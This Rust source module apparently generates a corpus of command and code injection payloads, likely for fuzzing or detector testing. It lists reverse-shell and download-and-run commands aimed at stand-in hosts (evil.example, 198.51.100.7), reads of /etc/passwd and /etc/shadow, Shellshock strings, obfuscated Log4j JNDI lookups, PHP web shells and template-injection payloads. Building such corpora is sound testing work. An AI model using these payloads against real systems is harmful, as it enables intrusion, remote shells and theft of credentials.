//! Command and code injection grammar: separator, command, arguments;
//! substitutions, Shellshock, Log4j JNDI lookups, code evaluation, templates.

use rand::Rng;

use super::{pick, CorpusRng};

const SEPARATORS: &[&str] = &[";", "|", "||", "&&", "&", "\n", "`", "$("];
const COMMANDS: &[&str] = &[
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "ls -la",
    "ls /",
    "pwd",
    "cat /etc/shadow",
    "netstat -an",
    "ifconfig",
    "wget http://evil.example/s.sh -O /tmp/s.sh",
    "curl http://evil.example/x | sh",
    "nc -e /bin/sh 198.51.100.7 4444",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "ping -c 3 198.51.100.7",
    "sleep 10",
    "echo pwned > /tmp/p",
    "ps aux",
    "cat /proc/self/environ",
    "type C:\\windows\\win.ini",
    "dir C:\\",
    "net user",
    "whoami /all",
    "powershell -enc SQBFAFgA",
];
const VALUES: &[&str] = &[
    "127.0.0.1",
    "localhost",
    "example.com",
    "8.8.8.8",
    "file.txt",
    "report",
    "1",
    "",
];

fn shell(rng: &mut CorpusRng) -> String {
    let v = pick(rng, VALUES);
    let c = pick(rng, COMMANDS);
    match pick(rng, SEPARATORS) {
        "`" => format!("{v}`{c}`"),
        "$(" => format!("{v}$({c})"),
        sep => {
            let tail = if rng.gen_bool(0.3) {
                pick(rng, &[";", " #", " &", "|"])
            } else {
                ""
            };
            format!("{v}{sep}{c}{tail}")
        }
    }
}

fn jndi(rng: &mut CorpusRng) -> String {
    let scheme = pick(rng, &["ldap", "rmi", "dns", "ldaps", "iiop"]);
    let host = format!(
        "198.51.100.{}:{}",
        rng.gen_range(1..254),
        pick(rng, &["1389", "1099", "53", "636"])
    );
    let path = pick(
        rng,
        &["a", "Exploit", "x", "o=tomcat", "Basic/Command/Base64/aWQ="],
    );
    match rng.gen_range(0..5) {
        0 => format!("${{jndi:{scheme}://{host}/{path}}}"),
        1 => format!("${{${{lower:j}}ndi:{scheme}://{host}/{path}}}"),
        2 => format!("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{scheme}://{host}/{path}}}"),
        3 => format!("${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{scheme}://{host}/{path}}}"),
        _ => format!("${{j${{upper:n}}di:{scheme}://{host}/{path}}}"),
    }
}

fn code(rng: &mut CorpusRng) -> String {
    let c = pick(rng, &["id", "whoami", "cat /etc/passwd", "ls", "uname -a"]);
    match rng.gen_range(0..9) {
        0 => format!("<?php system('{c}'); ?>"),
        1 => format!("<?php echo shell_exec($_GET['{}']); ?>", pick(rng, &["cmd", "c", "x"])),
        2 => format!("__import__('os').system('{c}')"),
        3 => format!("{{{{config.__class__.__init__.__globals__['os'].popen('{c}').read()}}}}"),
        4 => format!("${{T(java.lang.Runtime).getRuntime().exec('{c}')}}"),
        5 => format!("require('child_process').execSync('{c}')"),
        6 => format!("{{${{system('{c}')}}}}"),
        7 => format!("%{{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('{c}'))}}"),
        _ => format!("{{{{{}*{}}}}}", rng.gen_range(2..99), rng.gen_range(2..99)),
    }
}

/// One command or code injection payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    match rng.gen_range(0..10) {
        0..=4 => shell(rng),
        5 => format!(
            "() {{ :; }}; {}",
            pick(
                rng,
                &[
                    "/bin/bash -c 'id'",
                    "echo; /bin/cat /etc/passwd",
                    "/bin/sleep 10",
                    "/usr/bin/wget http://evil.example/x"
                ]
            )
        ),
        6 | 7 => jndi(rng),
        _ => code(rng),
    }
}
